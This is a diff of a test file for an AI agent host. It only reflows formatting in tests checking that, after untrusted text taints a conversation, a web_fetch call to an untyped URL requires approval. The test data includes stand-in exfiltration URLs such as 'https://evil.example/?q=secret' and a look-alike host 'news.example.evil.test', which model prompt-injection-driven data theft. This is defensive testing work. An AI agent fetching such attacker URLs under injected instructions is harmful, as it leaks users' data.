@@ -38,22 +38,12 @@ test('with external text even a granted tool asks', async () => {
 
 test.each([
   ['an address that nobody typed asks', 'Read the page', 'https://evil.example/?q=secret', 'pending'],
-  [
-    'the typed address does not',
-    'Read (https://news.example/a?b=1).',
-    'https://news.example/a?b=1',
-    undefined,
-  ],
+  ['the typed address does not', 'Read (https://news.example/a?b=1).', 'https://news.example/a?b=1', undefined],
   ['nor does a typed host', 'Read news.example please', 'https://news.example/', undefined],
   ['another query of it asks', 'Read news.example/a please', 'https://news.example/a?q=secret', 'pending'],
   ['another path of it asks', 'Read news.example please', 'https://news.example/secret', 'pending'],
   ['another subdomain asks', 'Read news.example please', 'https://secret.news.example/', 'pending'],
-  [
-    'a host that begins like it asks',
-    'Read news.example please',
-    'https://news.example.evil.test/',
-    'pending',
-  ],
+  ['a host that begins like it asks', 'Read news.example please', 'https://news.example.evil.test/', 'pending'],
 ])('after untrusted text a fetch could carry data away: %s', async (_, message, url, status) => {
   const models = scriptedModels(text('Hm'), toolCall('web_fetch', { url }), text('Done'))
   const host = await testHost({ models })
@@ -62,9 +52,7 @@ test.each([
   await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
   const response = await call(send, host, { body: { message: 'Go', conversation_id: id } })
   await workOff(host)
-  expect(await host.sql.read('SELECT status, risk FROM approvals')).toEqual(
-    status ? [{ status, risk: 'medium' }] : [],
-  )
+  expect(await host.sql.read('SELECT status, risk FROM approvals')).toEqual(status ? [{ status, risk: 'medium' }] : [])
   await response.body?.cancel()
 })
 
@@ -88,9 +76,7 @@ test.each([
   await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1' }])
   await (await call(send, host, { body: { message: 'Go', conversation_id: id } })).body?.cancel()
   await workOff(host)
-  expect(await host.sql.read('SELECT tool, status FROM approvals')).toEqual([
-    { tool: 'web_fetch', status: 'pending' },
-  ])
+  expect(await host.sql.read('SELECT tool, status FROM approvals')).toEqual([{ tool: 'web_fetch', status: 'pending' }])
 })
 
 test('files written by a tainted conversation taint later readers', async () => {
@@ -102,12 +88,9 @@ test('files written by a tainted conversation taint later readers', async () => 
     models.add(text('Hm'), ...steps, text('Done'))
     const [start] = await chat(host, { message: 'Hello' })
     const id = start?.data.conversation_id ?? ''
-    if (before)
-      await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1 WHERE id = ?', args: [id] }])
+    if (before) await host.sql.write([{ sql: 'UPDATE conversations SET tainted = 1 WHERE id = ?', args: [id] }])
     await chat(host, { message: 'Go', conversation_id: id })
-    const rows = await host.sql.read<{ tainted: number }>('SELECT tainted FROM conversations WHERE id = ?', [
-      id,
-    ])
+    const rows = await host.sql.read<{ tainted: number }>('SELECT tainted FROM conversations WHERE id = ?', [id])
     return rows[0]?.tainted === 1
   }
   const put = (path: string, content: string, more: object = {}) =>
